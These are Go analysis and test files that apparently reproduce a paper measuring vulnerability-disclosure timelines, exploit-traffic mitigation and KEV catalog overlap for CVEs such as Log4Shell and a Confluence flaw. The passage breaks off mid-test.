// CounterfactualReport compares a desideratum before and after the
// counterfactual adjustment.
type CounterfactualReport struct {
	Pair            Pair
	BeforeSatisfied float64
	AfterSatisfied  float64
	BeforeSkill     float64
	AfterSkill      float64
	// SkillImprovement is the relative skill gain (the paper reports +32%
	// for D < A).
	SkillImprovement float64
}

// EvaluateCounterfactual runs the Finding-7 experiment for one desideratum.
func EvaluateCounterfactual(timelines []lifecycle.Timeline, d Pair, window time.Duration, baselines map[Pair]float64) CounterfactualReport {
	before := EvaluateDesiderata(timelines, baselines)
	after := EvaluateDesiderata(Counterfactual(timelines, window), baselines)
	rep := CounterfactualReport{Pair: d}
	for _, r := range before {
		if r.Pair == d {
			rep.BeforeSatisfied = r.Satisfied
			rep.BeforeSkill = r.Skill
		}
	}
	for _, r := range after {
		if r.Pair == d {
			rep.AfterSatisfied = r.Satisfied
			rep.AfterSkill = r.Skill
		}
	}
	if rep.BeforeSkill != 0 {
		rep.SkillImprovement = (rep.AfterSkill - rep.BeforeSkill) / rep.BeforeSkill
	}
	return rep
}
