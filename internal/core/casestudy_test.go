package core

import (
	"testing"
	"time"

	"repro/internal/datasets"
)

// Figure 8 / Finding 13: Log4Shell shows rapid exploitation after
// disclosure with sustained lower-density traffic later.
func TestLog4ShellCaseStudy(t *testing.T) {
	events := groundTruthEvents(t, 5)
	rep := CaseStudy(events, "2021-44228")
	if rep.Sessions < 500 {
		t.Fatalf("Log4Shell sessions = %d, want a large campaign", rep.Sessions)
	}
	// First variant fired within hours of publication (group A, SID 58723
	// actually precedes its own rule).
	if rep.FirstDay > 1 {
		t.Errorf("first event at day %.2f, want < 1", rep.FirstDay)
	}
	// Sustained traffic to the window's end (~447 days after publication).
	if rep.LastDay < 300 {
		t.Errorf("last event at day %.2f, want sustained tail", rep.LastDay)
	}
	// Front-loaded: a solid share of post-publication traffic in 30 days.
	if rep.Within30Share < 0.25 {
		t.Errorf("within-30 share = %.3f, want front-loaded", rep.Within30Share)
	}
	cdf := CaseStudyCDF(events, "2021-44228", datasets.Log4ShellPublished)
	if cdf.CDF == nil || len(cdf.Times) != rep.Sessions {
		t.Fatal("CDF inconsistent with report")
	}
}

// Figure 9 / Finding 14: variant groups appear in order of increasing
// sophistication during the first month; group A dominates the volume.
func TestLog4ShellVariantSeries(t *testing.T) {
	events := groundTruthEvents(t, 5)
	series := Log4ShellVariantSeries(events, 21)
	if len(series) != 5 {
		t.Fatalf("series = %d, want 5 groups", len(series))
	}
	byGroup := map[string]VariantSeries{}
	for _, s := range series {
		byGroup[s.Group] = s
	}
	if len(byGroup["A"].DaysSince) == 0 || len(byGroup["B"].DaysSince) == 0 {
		t.Fatal("groups A and B must have December traffic")
	}
	if len(byGroup["A"].DaysSince) <= len(byGroup["C"].DaysSince) {
		t.Error("group A should out-volume group C in the first weeks")
	}
	// Group E (the request-method variant, released 90 days later) shows
	// no traffic inside the 21-day window... except its pre-rule scanning
	// begins at D−88d22h ≈ publication+1.2d, which the post-facto IDS
	// attributes to SID 59246. Either way, all observations stay inside
	// the window bounds.
	for _, s := range series {
		for _, d := range s.DaysSince {
			if d < 0 || d > 21 {
				t.Fatalf("group %s sample %.2f outside window", s.Group, d)
			}
		}
	}
	// Increasing sophistication: group A's median arrival is earlier than
	// group D's within the window.
	if a, d := byGroup["A"], byGroup["D"]; a.CDF != nil && d.CDF != nil {
		if a.CDF.Median() > d.CDF.Median() {
			t.Errorf("group A median %.2f later than group D %.2f", a.CDF.Median(), d.CDF.Median())
		}
	}
}

// Figure 12 / Finding 18: Confluence CVE-2022-26134 spikes right after
// disclosure, is almost entirely mitigated, and keeps rising to the end of
// the study.
func TestConfluenceCaseStudy(t *testing.T) {
	events := groundTruthEvents(t, 5)
	rep := CaseStudy(events, "2022-26134")
	if rep.Sessions < 5000 {
		t.Fatalf("Confluence sessions = %d, want the study's biggest campaign", rep.Sessions)
	}
	if rep.MitigatedShare < 0.99 {
		t.Errorf("Confluence mitigated share = %.4f, want >= 0.99 (paper: 99.6%%)", rep.MitigatedShare)
	}
	if rep.LastDay < 200 {
		t.Errorf("Confluence last event at %.0f days, want traffic to study end", rep.LastDay)
	}
}

// Appendix C / Finding 19: the untargeted-OGNL CVE shows traffic from the
// very beginning of the study, long before its publication.
func TestUntargetedOGNLLeadingTraffic(t *testing.T) {
	events := groundTruthEvents(t, 5)
	meta := datasets.StudyCVEByID("2022-28938")
	cdf := CaseStudyCDF(events, "2022-28938", meta.Published)
	if cdf.CDF == nil {
		t.Fatal("no events")
	}
	if cdf.CDF.Min() > -400 {
		t.Errorf("earliest OGNL event at day %.0f, want ~-444 (study start)", cdf.CDF.Min())
	}
	if pre := cdf.CDF.Below(0); pre == 0 {
		t.Error("no pre-publication OGNL traffic observed")
	}
}

func TestCaseStudyUnknownCVE(t *testing.T) {
	rep := CaseStudy(nil, "1999-0001")
	if rep.Sessions != 0 {
		t.Errorf("unknown CVE sessions = %d", rep.Sessions)
	}
	cdf := CaseStudyCDF(nil, "1999-0001", time.Now())
	if cdf.CDF != nil {
		t.Error("empty CDF should be nil")
	}
}
