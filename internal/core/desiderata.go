// Package core implements the paper's analysis: the Householder–Spring CERT
// model of vulnerability-disclosure event orderings (desiderata, baseline
// satisfaction probabilities, and the skill metric), evaluated per CVE
// (Table 4) and per exploit event (Table 5); windows-of-vulnerability
// distributions (Figures 5, 13–18); the Finding-7 counterfactual; the
// mitigated-exposure segmentation (Figures 6 and 7); and the KEV comparison
// (Figures 10 and 11).
package core

import (
	"fmt"

	"repro/internal/lifecycle"
)

// Pair is an ordered event pair; the desideratum is "A occurs before B".
type Pair struct {
	A lifecycle.EventType
	B lifecycle.EventType
}

// String renders the pair in the paper's "A < B" form.
func (p Pair) String() string { return p.A.Letter() + " < " + p.B.Letter() }

// Desiderata returns the nine desiderata evaluated in Table 4, in table
// order.
func Desiderata() []Pair {
	V, F, D, P, X, A := lifecycle.VendorAware, lifecycle.FixReady, lifecycle.FixDeployed,
		lifecycle.PublicAware, lifecycle.ExploitPub, lifecycle.Attacks
	return []Pair{
		{V, A}, {F, P}, {F, X}, {F, A}, {D, P}, {D, X}, {D, A}, {P, A}, {X, A},
	}
}

// Marking classifies a cell of the Table 3 desiderata matrix.
type Marking byte

// Matrix cell markings.
const (
	MarkNone        Marking = '-' // impossible or self
	MarkDesired     Marking = 'd'
	MarkUndesired   Marking = 'u'
	MarkRequirement Marking = 'r'
)

// Matrix is a 6×6 desiderata matrix: Matrix[row][col] classifies "row event
// precedes column event".
type Matrix [6][6]Marking

// cell sets m[r][c].
func (m *Matrix) set(r, c lifecycle.EventType, v Marking) { m[r][c] = v }

// At returns the marking for "a before b".
func (m *Matrix) At(a, b lifecycle.EventType) Marking { return m[a][b] }

// HouseholderSpringMatrix returns Table 3a, the original model's matrix.
func HouseholderSpringMatrix() Matrix {
	V, F, D, P, X, A := lifecycle.VendorAware, lifecycle.FixReady, lifecycle.FixDeployed,
		lifecycle.PublicAware, lifecycle.ExploitPub, lifecycle.Attacks
	var m Matrix
	for i := range m {
		for j := range m[i] {
			m[i][j] = MarkNone
		}
	}
	m.set(V, F, MarkRequirement)
	m.set(V, D, MarkRequirement)
	m.set(V, P, MarkDesired)
	m.set(V, X, MarkDesired)
	m.set(V, A, MarkDesired)
	m.set(F, D, MarkRequirement)
	m.set(F, P, MarkDesired)
	m.set(F, X, MarkDesired)
	m.set(F, A, MarkDesired)
	m.set(D, P, MarkDesired)
	m.set(D, X, MarkDesired)
	m.set(D, A, MarkDesired)
	m.set(P, V, MarkUndesired)
	m.set(P, F, MarkUndesired)
	m.set(P, D, MarkUndesired)
	m.set(P, X, MarkDesired)
	m.set(P, A, MarkDesired)
	m.set(X, V, MarkUndesired)
	m.set(X, F, MarkUndesired)
	m.set(X, D, MarkUndesired)
	m.set(X, P, MarkUndesired)
	m.set(X, A, MarkDesired)
	m.set(A, V, MarkUndesired)
	m.set(A, F, MarkUndesired)
	m.set(A, D, MarkUndesired)
	m.set(A, P, MarkUndesired)
	m.set(A, X, MarkUndesired)
	return m
}

// ThisWorkMatrix returns Table 3b: the paper's matrix as restricted by its
// collection methodology (public knowledge implies vendor knowledge, so
// V < P becomes a requirement, and so on).
func ThisWorkMatrix() Matrix {
	V, F, D, P, X, A := lifecycle.VendorAware, lifecycle.FixReady, lifecycle.FixDeployed,
		lifecycle.PublicAware, lifecycle.ExploitPub, lifecycle.Attacks
	var m Matrix
	for i := range m {
		for j := range m[i] {
			m[i][j] = MarkNone
		}
	}
	m.set(V, F, MarkRequirement)
	m.set(V, D, MarkRequirement)
	m.set(V, P, MarkRequirement)
	m.set(V, X, MarkRequirement)
	m.set(V, A, MarkDesired)
	m.set(F, D, MarkRequirement)
	m.set(F, P, MarkDesired)
	m.set(F, X, MarkDesired)
	m.set(F, A, MarkDesired)
	m.set(D, P, MarkDesired)
	m.set(D, X, MarkDesired)
	m.set(D, A, MarkDesired)
	m.set(P, F, MarkUndesired)
	m.set(P, D, MarkUndesired)
	m.set(P, X, MarkRequirement)
	m.set(P, A, MarkDesired)
	m.set(X, F, MarkUndesired)
	m.set(X, D, MarkUndesired)
	m.set(X, A, MarkDesired)
	m.set(A, V, MarkUndesired)
	m.set(A, F, MarkUndesired)
	m.set(A, D, MarkUndesired)
	m.set(A, P, MarkUndesired)
	m.set(A, X, MarkUndesired)
	return m
}

// Requirements extracts the matrix's required orderings as pairs.
func (m *Matrix) Requirements() []Pair {
	var out []Pair
	for _, a := range lifecycle.EventTypes() {
		for _, b := range lifecycle.EventTypes() {
			if m.At(a, b) == MarkRequirement {
				out = append(out, Pair{A: a, B: b})
			}
		}
	}
	return out
}

// Render prints the matrix in the paper's row/column layout.
func (m *Matrix) Render() string {
	s := "      V  F  D  P  X  A\n"
	for _, a := range lifecycle.EventTypes() {
		s += fmt.Sprintf("  %s ", a.Letter())
		for _, b := range lifecycle.EventTypes() {
			s += fmt.Sprintf("  %c", m.At(a, b))
		}
		s += "\n"
	}
	return s
}
