package core

import (
	"testing"
	"time"

	"repro/internal/datasets"
	"repro/internal/ids"
	"repro/internal/lifecycle"
	"repro/internal/scanner"
)

// groundTruthEvents builds the exploit-event stream from workload
// blueprints. The telescope/IDS path is validated to agree with blueprint
// ground truth in the scanner and telescope packages, so the analysis tests
// can use the cheap path.
func groundTruthEvents(t testing.TB, scale int) []ids.Event {
	t.Helper()
	bps, err := scanner.Build(scanner.Config{Seed: 1, Scale: scale, Noise: 1})
	if err != nil {
		t.Fatal(err)
	}
	pub, err := scanner.SIDPublication()
	if err != nil {
		t.Fatal(err)
	}
	var events []ids.Event
	for _, bp := range bps {
		if bp.CVE == "" {
			continue
		}
		events = append(events, ids.Event{
			Time: bp.Time, CVE: bp.CVE, SID: bp.SID, Published: pub[bp.SID],
		})
	}
	return events
}

// Table 5: per-event desiderata. The headline claims must hold: D<A jumps
// from 0.56 per CVE to ~0.95+ per event; F<P collapses to ~0.01; V<A and
// P<A are near 1.
func TestTable5PerEvent(t *testing.T) {
	events := groundTruthEvents(t, 5)
	tl := lifecycle.StudyTimelines()
	results := EvaluatePerEvent(events, tl, PublishedBaselines())
	byPair := map[string]DesideratumResult{}
	for _, r := range results {
		byPair[r.Pair.String()] = r
	}
	if got := byPair["D < A"].Satisfied; got < 0.93 {
		t.Errorf("per-event D<A = %.3f, want >= 0.93 (paper: 0.95)", got)
	}
	if got := byPair["V < A"].Satisfied; got < 0.99 {
		t.Errorf("per-event V<A = %.3f, want ~1.00", got)
	}
	if got := byPair["P < A"].Satisfied; got < 0.98 {
		t.Errorf("per-event P<A = %.3f, want ~0.99", got)
	}
	if got := byPair["F < P"].Satisfied; got > 0.03 {
		t.Errorf("per-event F<P = %.3f, want ~0.01", got)
	}
	if got := byPair["X < A"].Satisfied; got < 0.85 {
		t.Errorf("per-event X<A = %.3f, want ~0.95", got)
	}
	// The central contrast of Section 6.2: per-event D<A far exceeds the
	// per-CVE rate.
	perCVE := EvaluateDesiderata(tl, PublishedBaselines())
	var perCVEDA float64
	for _, r := range perCVE {
		if r.Pair.String() == "D < A" {
			perCVEDA = r.Satisfied
		}
	}
	if byPair["D < A"].Satisfied < perCVEDA+0.3 {
		t.Errorf("per-event D<A (%.3f) should far exceed per-CVE (%.3f)",
			byPair["D < A"].Satisfied, perCVEDA)
	}
}

// Finding 10 / Section 6: exploit traffic is overwhelmingly mitigated.
func TestMitigatedShare(t *testing.T) {
	events := groundTruthEvents(t, 5)
	tl := lifecycle.StudyTimelines()
	share := MitigatedShare(events, tl)
	if share < 0.93 {
		t.Errorf("mitigated share = %.3f, want >= 0.93 (paper: 0.95)", share)
	}
}

// Finding 12: roughly half of unmitigated post-publication exposure lands in
// the first 30 days.
func TestFinding12UnmitigatedConcentration(t *testing.T) {
	events := groundTruthEvents(t, 5)
	tl := lifecycle.StudyTimelines()
	cdfs := ExposureCDF(events, tl)
	conc := UnmitigatedConcentration(cdfs, 30)
	if conc < 0.35 || conc > 0.70 {
		t.Errorf("30-day unmitigated concentration = %.3f, want ~0.50", conc)
	}
	// The mitigated stream must NOT be so concentrated: defended traffic
	// keeps arriving for the CVE's whole lifetime.
	post := 1 - cdfs.Mitigated.At(0)
	mitConc := (cdfs.Mitigated.At(30) - cdfs.Mitigated.At(0)) / post
	if mitConc >= conc {
		t.Errorf("mitigated concentration %.3f >= unmitigated %.3f; unmitigated exposure should be the concentrated one", mitConc, conc)
	}
}

// Finding 11 / Figure 6: beyond the first 5-day bin, mitigated CVEs
// dominate the per-bin CVE counts.
func TestFigure6MitigatedMajority(t *testing.T) {
	events := groundTruthEvents(t, 5)
	tl := lifecycle.StudyTimelines()
	bins := ExposureByBin(events, tl, 5, -50, 200)
	mitWins := 0
	contested := 0
	for i := range bins.Mitigated {
		if bins.BinStart(i) < 5 {
			continue // the first post-publication bin may be unmitigated-heavy
		}
		if bins.Mitigated[i]+bins.Unmit[i] == 0 {
			continue
		}
		contested++
		if bins.Mitigated[i] >= bins.Unmit[i] {
			mitWins++
		}
	}
	if contested == 0 {
		t.Fatal("no populated bins")
	}
	if frac := float64(mitWins) / float64(contested); frac < 0.8 {
		t.Errorf("mitigated-majority bins = %.2f, want > 0.8", frac)
	}
}

// Figure 4: the relative-to-publication event histogram has a visible
// post-publication spike: the first 15 days outweigh any later 15-day span
// of the first year on a per-bin basis... compare first bin vs bin at ~6
// months.
func TestFigure4PostPublicationSpike(t *testing.T) {
	events := groundTruthEvents(t, 5)
	tl := lifecycle.StudyTimelines()
	h := RelativeEventTimeline(events, tl, 15, -450, 450)
	if h == nil {
		t.Fatal("nil histogram")
	}
	// The figure's signature is a discontinuity at publication: the first
	// post-publication bin dwarfs the bins just before publication...
	firstBin := h.Counts[int((0-(-450))/15)]
	preBin := h.Counts[int((-30-(-450))/15)]
	if firstBin < 3*preBin || firstBin == 0 {
		t.Errorf("post-publication bin (%d) not well above pre-publication bin (%d)", firstBin, preBin)
	}
	// ...followed by sustained traffic for months and years.
	yearOut := h.Counts[int((360-(-450))/15)]
	if yearOut == 0 {
		t.Error("no sustained traffic a year after publication")
	}
}

// Figure 3: the absolute event rate rises across the study.
func TestFigure3RisingRate(t *testing.T) {
	events := groundTruthEvents(t, 5)
	h := EventTimeline(events, 30, datasets.StudyWindow.Start, datasets.StudyWindow.End)
	if h == nil {
		t.Fatal("nil histogram")
	}
	n := len(h.Counts)
	firstHalf, secondHalf := 0, 0
	for i, c := range h.Counts {
		if i < n/2 {
			firstHalf += c
		} else {
			secondHalf += c
		}
	}
	if secondHalf <= firstHalf {
		t.Errorf("event rate not rising: first half %d, second half %d", firstHalf, secondHalf)
	}
}

func TestEvaluatePerEventSkipsUnknownCVEs(t *testing.T) {
	tl := lifecycle.StudyTimelines()
	events := []ids.Event{{Time: time.Now(), CVE: "1999-9999", SID: 1}}
	results := EvaluatePerEvent(events, tl, PublishedBaselines())
	for _, r := range results {
		if r.Evaluated != 0 {
			t.Errorf("%s evaluated %d events for unknown CVE", r.Pair, r.Evaluated)
		}
	}
}

// KEV comparison: Figures 10 and 11 plus Findings 15–17.
func TestKEVComparison(t *testing.T) {
	kev := datasets.GenerateKEV(datasets.KEVConfig{Seed: 3})
	tl := lifecycle.StudyTimelines()
	cmp := CompareKEV(tl, kev)

	if cmp.OverlapCount != 44 {
		t.Errorf("overlap = %d, want 44", cmp.OverlapCount)
	}
	if cmp.OverlapShare < 0.68 || cmp.OverlapShare > 0.72 {
		t.Errorf("overlap share = %.3f, want ~0.70", cmp.OverlapShare)
	}
	// Finding 16: KEV pre-publication exploitation ~18% vs telescope ~10%.
	if cmp.KevPrePublicationRate < 0.10 || cmp.KevPrePublicationRate > 0.26 {
		t.Errorf("KEV A<P = %.3f, want ~0.18", cmp.KevPrePublicationRate)
	}
	if cmp.DscopePrePublicationRate < 0.07 || cmp.DscopePrePublicationRate > 0.13 {
		t.Errorf("DSCOPE A<P = %.3f, want ~0.10", cmp.DscopePrePublicationRate)
	}
	if cmp.KevPrePublicationRate <= cmp.DscopePrePublicationRate {
		t.Error("KEV should show a higher pre-publication rate than the telescope")
	}
	// Finding 17: 59% telescope-first, 50% by >30 days.
	if cmp.DscopeFirstShare < 0.50 || cmp.DscopeFirstShare > 0.70 {
		t.Errorf("telescope-first share = %.3f, want ~0.59", cmp.DscopeFirstShare)
	}
	if cmp.Over30DaysShare < 0.35 || cmp.Over30DaysShare > 0.60 {
		t.Errorf(">30d share = %.3f, want ~0.50", cmp.Over30DaysShare)
	}
	if cmp.Delta == nil || cmp.KevAMinusP == nil {
		t.Fatal("missing distributions")
	}
}

// Finding 16's second half: the telescope sees longer pre-publication leads
// than KEV even though its pre-publication rate is lower.
func TestFinding16LongLeads(t *testing.T) {
	kev := datasets.GenerateKEV(datasets.KEVConfig{Seed: 3})
	tl := lifecycle.StudyTimelines()
	cmp := CompareKEV(tl, kev)

	// Longest telescope lead (most negative A−P among study CVEs), in days.
	var worstDscope float64
	for i := range tl {
		if d, ok := tl[i].Diff(lifecycle.Attacks, lifecycle.PublicAware); ok {
			if v := d.Hours() / 24; v < worstDscope {
				worstDscope = v
			}
		}
	}
	if worstDscope > -300 {
		t.Errorf("telescope's longest pre-publication lead = %.0f days, want hundreds", worstDscope)
	}
	if kevMin := cmp.KevAMinusP.Min(); kevMin < worstDscope {
		t.Errorf("KEV lead %.0f days exceeds telescope's %.0f", kevMin, worstDscope)
	}
}

func BenchmarkEvaluatePerEvent(b *testing.B) {
	events := groundTruthEvents(b, 10)
	tl := lifecycle.StudyTimelines()
	base := PublishedBaselines()
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		EvaluatePerEvent(events, tl, base)
	}
}

func TestProposeKEVAdditions(t *testing.T) {
	events := groundTruthEvents(t, 20)
	kev := datasets.GenerateKEV(datasets.KEVConfig{Seed: 3})
	// minEvents 1: the CVEs KEV lacks are exactly the low-volume ones (the
	// synthetic catalog's overlap is the top 44 by event count).
	props := ProposeKEVAdditions(events, kev, 1)
	if len(props) == 0 {
		t.Fatal("no proposals")
	}
	// Sorted by evidence volume; Confluence must lead.
	if props[0].CVE != "2022-26134" {
		t.Errorf("top proposal = %s, want Confluence", props[0].CVE)
	}
	// CVEs not in KEV (the 30% the telescope alone sees) must appear.
	notInCatalog := 0
	withLead := 0
	for _, p := range props {
		if !p.InCatalog {
			notInCatalog++
		}
		if p.LeadDays > 0 {
			withLead++
		}
	}
	if notInCatalog == 0 {
		t.Error("no proposals outside the existing catalog")
	}
	if withLead == 0 {
		t.Error("no proposals leading the catalog's manual additions")
	}
}

func TestProposeKEVAdditionsThreshold(t *testing.T) {
	events := groundTruthEvents(t, 20)
	kev := datasets.GenerateKEV(datasets.KEVConfig{Seed: 3})
	loose := ProposeKEVAdditions(events, kev, 1)
	strict := ProposeKEVAdditions(events, kev, 50)
	if len(strict) >= len(loose) {
		t.Errorf("threshold did not filter: %d vs %d", len(strict), len(loose))
	}
}
