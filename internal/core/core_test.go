package core

import (
	"math"
	"testing"
	"time"

	"repro/internal/lifecycle"
)

func approx(t *testing.T, name string, got, want, tol float64) {
	t.Helper()
	if math.Abs(got-want) > tol {
		t.Errorf("%s = %.4f, want %.4f (±%.4f)", name, got, want, tol)
	}
}

func table4(t *testing.T) map[string]DesideratumResult {
	t.Helper()
	results := EvaluateDesiderata(lifecycle.StudyTimelines(), PublishedBaselines())
	out := map[string]DesideratumResult{}
	for _, r := range results {
		out[r.Pair.String()] = r
	}
	return out
}

// Table 4: satisfaction rates over the 63 study CVEs. These are computed
// from the embedded Appendix E and must land on the paper's printed values.
func TestTable4Satisfaction(t *testing.T) {
	r := table4(t)
	cases := []struct {
		pair string
		want float64
	}{
		{"V < A", 0.90}, {"F < P", 0.13}, {"F < X", 0.74}, {"F < A", 0.56},
		{"D < P", 0.13}, {"D < X", 0.74}, {"D < A", 0.56}, {"P < A", 0.90},
		{"X < A", 0.39},
	}
	for _, c := range cases {
		approx(t, "satisfied("+c.pair+")", r[c.pair].Satisfied, c.want, 0.015)
	}
}

// Table 4: skill values.
func TestTable4Skill(t *testing.T) {
	r := table4(t)
	cases := []struct {
		pair string
		want float64
	}{
		{"V < A", 0.62}, {"F < P", 0.02}, {"F < X", 0.61}, {"F < A", 0.29},
		{"D < P", 0.10}, {"D < X", 0.69}, {"D < A", 0.46}, {"P < A", 0.71},
		{"X < A", -0.21},
	}
	for _, c := range cases {
		approx(t, "skill("+c.pair+")", r[c.pair].Skill, c.want, 0.02)
	}
}

// Finding 3: mean skill 0.37, with 8 of 9 desiderata skillful.
func TestFinding3MeanSkill(t *testing.T) {
	results := EvaluateDesiderata(lifecycle.StudyTimelines(), PublishedBaselines())
	approx(t, "mean skill", MeanSkill(results), 0.37, 0.01)
	if got := SkillfulCount(results); got != 8 {
		t.Errorf("skillful desiderata = %d, want 8", got)
	}
}

// Exact evaluation counts behind the rates (hand-verified from Appendix E).
func TestTable4Counts(t *testing.T) {
	r := table4(t)
	if got := r["F < P"]; got.Evaluated != 60 || got.SatisfiedCount != 8 {
		t.Errorf("F<P counts = %d/%d, want 8/60", got.SatisfiedCount, got.Evaluated)
	}
	if got := r["F < X"]; got.Evaluated != 31 || got.SatisfiedCount != 23 {
		t.Errorf("F<X counts = %d/%d, want 23/31", got.SatisfiedCount, got.Evaluated)
	}
	if got := r["X < A"]; got.Evaluated != 33 || got.SatisfiedCount != 13 {
		t.Errorf("X<A counts = %d/%d, want 13/33", got.SatisfiedCount, got.Evaluated)
	}
	if got := r["P < A"]; got.Evaluated != 62 || got.SatisfiedCount != 56 {
		t.Errorf("P<A counts = %d/%d, want 56/62", got.SatisfiedCount, got.Evaluated)
	}
}

// Finding 7: including the IDS vendor in disclosure lifts D<A satisfaction
// by about 0.11 and skill by about a third.
func TestFinding7Counterfactual(t *testing.T) {
	D, A := lifecycle.FixDeployed, lifecycle.Attacks
	rep := EvaluateCounterfactual(lifecycle.StudyTimelines(), Pair{A: D, B: A},
		30*24*time.Hour, PublishedBaselines())
	if rep.AfterSatisfied <= rep.BeforeSatisfied {
		t.Fatalf("counterfactual did not improve: %.3f -> %.3f", rep.BeforeSatisfied, rep.AfterSatisfied)
	}
	approx(t, "satisfaction gain", rep.AfterSatisfied-rep.BeforeSatisfied, 0.11, 0.03)
	approx(t, "relative skill improvement", rep.SkillImprovement, 0.32, 0.05)
}

func TestSkillFormula(t *testing.T) {
	cases := []struct{ fObs, fBase, want float64 }{
		{0.5, 0.5, 0},    // baseline performance: no skill
		{1.0, 0.5, 1},    // perfect: skill 1
		{0.0, 0.5, -1},   // always-fail
		{0.75, 0.5, 0.5}, // linear interpolation
		{0.13, 0.04, 0.09375},
		{0.3, 1.0, 0}, // degenerate baseline
	}
	for _, c := range cases {
		if got := Skill(c.fObs, c.fBase); math.Abs(got-c.want) > 1e-9 {
			t.Errorf("Skill(%v, %v) = %v, want %v", c.fObs, c.fBase, got, c.want)
		}
	}
}

func TestMatrices(t *testing.T) {
	hs := HouseholderSpringMatrix()
	tw := ThisWorkMatrix()
	V, F, D, P, X, A := lifecycle.VendorAware, lifecycle.FixReady, lifecycle.FixDeployed,
		lifecycle.PublicAware, lifecycle.ExploitPub, lifecycle.Attacks

	// Spot checks against Table 3.
	if hs.At(V, A) != MarkDesired {
		t.Error("3a: V<A should be desired")
	}
	if hs.At(V, P) != MarkDesired || tw.At(V, P) != MarkRequirement {
		t.Error("V<P: desired in 3a, required in 3b")
	}
	if hs.At(P, X) != MarkDesired || tw.At(P, X) != MarkRequirement {
		t.Error("P<X: desired in 3a, required in 3b")
	}
	if hs.At(A, X) != MarkUndesired || tw.At(A, X) != MarkUndesired {
		t.Error("A<X undesired in both")
	}
	if hs.At(F, D) != MarkRequirement || tw.At(F, D) != MarkRequirement {
		t.Error("F<D required in both")
	}
	if hs.At(D, D) != MarkNone {
		t.Error("diagonal must be '-'")
	}
	// 3a has exactly 3 requirements, 3b has 6.
	if got := len(hs.Requirements()); got != 3 {
		t.Errorf("3a requirements = %d, want 3", got)
	}
	if got := len(tw.Requirements()); got != 6 {
		t.Errorf("3b requirements = %d, want 6", got)
	}
	_ = X
	_ = A
	_ = Pair{}
	if s := hs.Render(); len(s) == 0 {
		t.Error("Render empty")
	}
}

func TestHistoryEnumeration(t *testing.T) {
	hs := HouseholderSpringMatrix()
	tw := ThisWorkMatrix()
	// V<F<D leaves 6!/3! = 120 valid histories.
	if got := NumHistories(&hs); got != 120 {
		t.Errorf("3a histories = %d, want 120", got)
	}
	// 3b adds V before P,X and P<X: V<F<D, V<P<X gives 36.
	if got := NumHistories(&tw); got != 36 {
		t.Errorf("3b histories = %d, want 36", got)
	}
}

func TestBaselineUniformMatchesClosedForm(t *testing.T) {
	hs := HouseholderSpringMatrix()
	probs := BaselineProbabilities(&hs, ModelUniform)
	V, F, D, P, X, A := lifecycle.VendorAware, lifecycle.FixReady, lifecycle.FixDeployed,
		lifecycle.PublicAware, lifecycle.ExploitPub, lifecycle.Attacks
	// Under uniform-over-histories with only the V<F<D chain, a free event
	// lands uniformly among the four positions relative to the chain.
	approx(t, "P(V<A)", probs[Pair{V, A}], 0.75, 1e-9)
	approx(t, "P(F<A)", probs[Pair{F, A}], 0.5, 1e-9)
	approx(t, "P(D<A)", probs[Pair{D, A}], 0.25, 1e-9)
	approx(t, "P(P<A)", probs[Pair{P, A}], 0.5, 1e-9)
	approx(t, "P(X<A)", probs[Pair{X, A}], 0.5, 1e-9)
}

func TestBaselineWalkProbabilitiesSumConsistently(t *testing.T) {
	hs := HouseholderSpringMatrix()
	walk := BaselineProbabilities(&hs, ModelWalk)
	V, A := lifecycle.VendorAware, lifecycle.Attacks
	// Complementary pairs must sum to 1 (no ties in a total order).
	pVA := walk[Pair{V, A}]
	// Recompute the complement through a reversed ad-hoc pair.
	orders, weights := enumerate(&hs, ModelWalk)
	var pAV float64
	for i, o := range orders {
		if indexOf(o, A) < indexOf(o, V) {
			pAV += weights[i]
		}
	}
	approx(t, "P(V<A)+P(A<V)", pVA+pAV, 1, 1e-9)
}

func TestMonteCarloConvergesToExactWalk(t *testing.T) {
	hs := HouseholderSpringMatrix()
	exact := BaselineProbabilities(&hs, ModelWalk)
	mc := MonteCarloBaseline(&hs, 200000, 1)
	for _, d := range Desiderata() {
		if math.Abs(exact[d]-mc[d]) > 0.01 {
			t.Errorf("%s: exact %.4f, MC %.4f", d, exact[d], mc[d])
		}
	}
}

func TestPublishedBaselinesComplete(t *testing.T) {
	b := PublishedBaselines()
	for _, d := range Desiderata() {
		v, ok := b[d]
		if !ok {
			t.Errorf("missing baseline for %s", d)
		}
		if v <= 0 || v >= 1 {
			t.Errorf("baseline %s = %v out of (0,1)", d, v)
		}
	}
}

// Window CDFs (Figure 5 family): the satisfaction printed in each caption
// must match Table 4.
func TestWindowCDFCaptions(t *testing.T) {
	tl := lifecycle.StudyTimelines()
	figs := PaperWindowCDFs(tl)
	if len(figs) != 9 {
		t.Fatalf("figures = %d, want 9", len(figs))
	}
	captions := map[string]float64{
		"A - D": 0.56, "P - D": 0.13, "A - P": 0.90,
		"A - V": 0.90, "P - F": 0.13, "X - F": 0.74,
		"A - F": 0.56, "X - D": 0.74, "A - X": 0.39,
	}
	for _, f := range figs {
		want, ok := captions[f.Label]
		if !ok {
			t.Errorf("unexpected figure %q", f.Label)
			continue
		}
		approx(t, "caption "+f.Label, f.SatisfiedAtZero, want, 0.015)
	}
}

// Finding 5: D<A failures are narrow — among CVEs where attacks preceded
// deployment, the median shortfall is far smaller than the median buffer
// among successes... specifically many failures are within 30 days.
func TestFinding5NarrowFailures(t *testing.T) {
	tl := lifecycle.StudyTimelines()
	f := NewWindowCDF(tl, lifecycle.Attacks, lifecycle.FixDeployed)
	// Hypothetical: improving D by 30 days captures a meaningful share of
	// current failures.
	base := f.SatisfiedAtZero
	shifted := f.HypotheticalShift(30)
	if shifted <= base {
		t.Errorf("30-day shift did not improve satisfaction: %.3f -> %.3f", base, shifted)
	}
	if shifted-base < 0.05 {
		t.Errorf("30-day shift gain = %.3f, expected a visible mass of narrow failures", shifted-base)
	}
}

// Finding 6: a large mass of fixes arrive within 10 days after publication.
func TestFinding6DeploymentFollowsPublication(t *testing.T) {
	tl := lifecycle.StudyTimelines()
	f := NewWindowCDF(tl, lifecycle.PublicAware, lifecycle.FixDeployed) // P - D
	// P - D in [-10, 0): deployment within 10 days after publication.
	within10 := f.CDF.At(0) - f.CDF.At(-10)
	if within10 < 0.25 {
		t.Errorf("deployments within 10 days of publication = %.3f, want a large mass", within10)
	}
}

func TestCounterfactualDoesNotMutateInput(t *testing.T) {
	tl := lifecycle.StudyTimelines()
	before := make([]lifecycle.Timeline, len(tl))
	copy(before, tl)
	Counterfactual(tl, 30*24*time.Hour)
	for i := range tl {
